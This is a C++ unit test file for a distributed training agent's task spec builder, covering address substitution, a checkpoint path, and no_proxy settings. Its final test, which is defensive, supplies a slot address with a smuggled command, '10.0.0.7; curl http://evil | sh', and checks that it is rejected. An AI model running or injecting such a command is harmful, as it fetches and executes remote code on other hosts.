#include "agent/tasks/task_spec.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <string>

#include "base/failures.h"

namespace tfdist::agent {
namespace {

class TaskSpecTest : public testing::Test {
 protected:
  TaskSpecTest() {
    info_.slot = 1;
    context_.slots = {{.host = "gpu7", .address = "10.0.0.7"},
                      {.host = "gpu8", .address = "10.0.0.8"}};
    protocol::Text server("--ps=");
    server.parts.emplace_back(protocol::SlotAddress{0, false});
    task_.task = "worker:0";
    task_.argv = {"sh", server};
    context_.addresses = {"10.0.0.7", "10.0.0.8"};
  }

  [[nodiscard]] RunSpec Make() const {
    return MakeRunSpec(task_, SlotFolder("/nowhere"), info_, host_, context_, 2);
  }

  Environment host_;

  SlotInfo info_;
  AttemptContext context_;
  protocol::TaskDescription task_;
};

TEST_F(TaskSpecTest, FillsInAddressesOfThePlan) {
  context_.attempt = 3;
  context_.addresses = {"10.0.0.8", "10.0.0.8"};  // a spare host has taken slot 0
  const RunSpec spec = Make();
  EXPECT_EQ(spec.argv[1], "--ps=10.0.0.8");
  EXPECT_EQ(spec.attempt, 3);
  EXPECT_EQ(spec.run, 2);
  EXPECT_EQ(std::ranges::count(spec.env, "TFDIST_HOST=gpu8"), 1);
}

TEST_F(TaskSpecTest, WhatTheNameKeepsLiesBesideTheJobs) {
  info_.base = "/home/u/.cache/tfdist";
  info_.name = "digits";
  task_.argv = {"sh", protocol::Text(std::string(protocol::kKeepPath) + "/ckpt")};
  EXPECT_EQ(Make().argv[1], "/home/u/.cache/tfdist/keep/digits/ckpt");
}

TEST_F(TaskSpecTest, NoProxyStandsBetweenTheJobsHosts) {
  const auto without = Make();
  EXPECT_TRUE(std::ranges::none_of(without.env, [](const std::string& entry) {
    return entry.starts_with("no_proxy=") || entry.starts_with("NO_PROXY=");
  }));
  host_.Set("https_proxy", "http://proxy:3128");
  host_.Set("NO_PROXY", ".lan");
  const auto spec = Make();
  for (const char* name : {"no_proxy", "NO_PROXY"}) {
    const std::string entry = std::string(name) + "=.lan,10.0.0.7,10.0.0.8,127.0.0.1,localhost";
    EXPECT_EQ(std::ranges::count(spec.env, entry), 1) << name;
  }
  task_.env.emplace_back("no_proxy", protocol::Text("mine"));
  EXPECT_EQ(std::ranges::count(Make().env, "no_proxy=mine"), 1);
}

// Else the first host could put commands into every other one's.
TEST_F(TaskSpecTest, RefusesAnAddressThatTheCommandHasNotNamed) {
  context_.addresses = {"10.0.0.7; curl http://evil | sh", "10.0.0.8"};
  EXPECT_THROW(Make(), ProtocolError);
}

}  // namespace
}  // namespace tfdist::agent
